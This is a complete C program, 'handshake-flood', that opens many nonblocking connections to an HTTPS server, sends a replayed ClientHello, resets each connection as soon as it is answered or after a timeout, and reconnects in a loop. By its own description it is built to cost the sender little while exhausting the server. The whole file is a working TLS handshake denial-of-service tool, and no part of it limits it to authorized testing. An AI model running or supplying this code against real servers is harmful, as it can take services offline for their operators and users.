/*
 * Keeps COUNT connections at an HTTPS port busy with TLS handshakes: says a ClientHello that was heard from a true
 * client, resets the connection as soon as it is answered, or after HOLD_MS, and comes back. Costs as little as can be,
 * so that what is slow is the server.
 *
 *   handshake-flood ADDRESS PORT COUNT HOLD_MS < ClientHello
 *
 * Ends at SIGTERM, with what it counted: connections, answers.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct connection {
  int fd;
  int is_open;
  long began_at;
};

static volatile sig_atomic_t is_over = 0;
static void end(int signal) {
  (void)signal;
  is_over = 1;
}

static long now_ms(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static struct sockaddr_in to;
static int watch;
static char hello[4096];
static ssize_t hello_bytes;
static long opened = 0;
static long answered = 0;

static void come(struct connection *one) {
  one->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  one->is_open = 0;
  one->began_at = now_ms();
  if (one->fd < 0) return;
  const struct linger reset = {1, 0};
  setsockopt(one->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
  if (connect(one->fd, (struct sockaddr *)&to, sizeof to) != 0 && errno != EINPROGRESS) {
    close(one->fd);
    one->fd = -1;
    return;
  }
  struct epoll_event event = {.events = EPOLLIN | EPOLLOUT, .data.ptr = one};
  epoll_ctl(watch, EPOLL_CTL_ADD, one->fd, &event);
}

static void go(struct connection *one) {
  if (one->fd >= 0) close(one->fd);
  one->fd = -1;
}

static void hear(struct connection *one, unsigned events) {
  if (!one->is_open && (events & EPOLLOUT) && !(events & (EPOLLERR | EPOLLHUP))) {
    one->is_open = 1;
    opened += 1;
    if (write(one->fd, hello, (size_t)hello_bytes) < 0) events |= EPOLLERR;
    struct epoll_event event = {.events = EPOLLIN, .data.ptr = one};
    epoll_ctl(watch, EPOLL_CTL_MOD, one->fd, &event);
  }
  if (events & EPOLLIN) answered += 1;
  if (events & (EPOLLIN | EPOLLERR | EPOLLHUP)) {
    go(one);
    come(one);
  }
}

int main(int argc, char **argv) {
  if (argc != 5) return 2;
  to.sin_family = AF_INET;
  to.sin_port = htons((unsigned short)atoi(argv[2]));
  if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) return 2;
  const int count = atoi(argv[3]);
  const long hold_ms = atol(argv[4]);
  hello_bytes = read(0, hello, sizeof hello);
  if (hello_bytes <= 0) return 2;
  signal(SIGTERM, end);
  signal(SIGPIPE, SIG_IGN);
  watch = epoll_create1(0);
  struct connection *all = calloc((size_t)count, sizeof *all);
  for (int n = 0; n < count; n++) come(&all[n]);
  struct epoll_event events[256];
  long looked_at = now_ms();
  while (!is_over) {
    const int ready = epoll_wait(watch, events, 256, 100);
    for (int n = 0; n < ready; n++) hear(events[n].data.ptr, events[n].events);
    const long now = now_ms();
    if (now - looked_at < 100) continue;
    looked_at = now;
    for (int n = 0; n < count; n++) {
      if (now - all[n].began_at < hold_ms) continue;
      go(&all[n]);
      come(&all[n]);
    }
  }
  printf("%ld %ld\n", opened, answered);
  return 0;
}
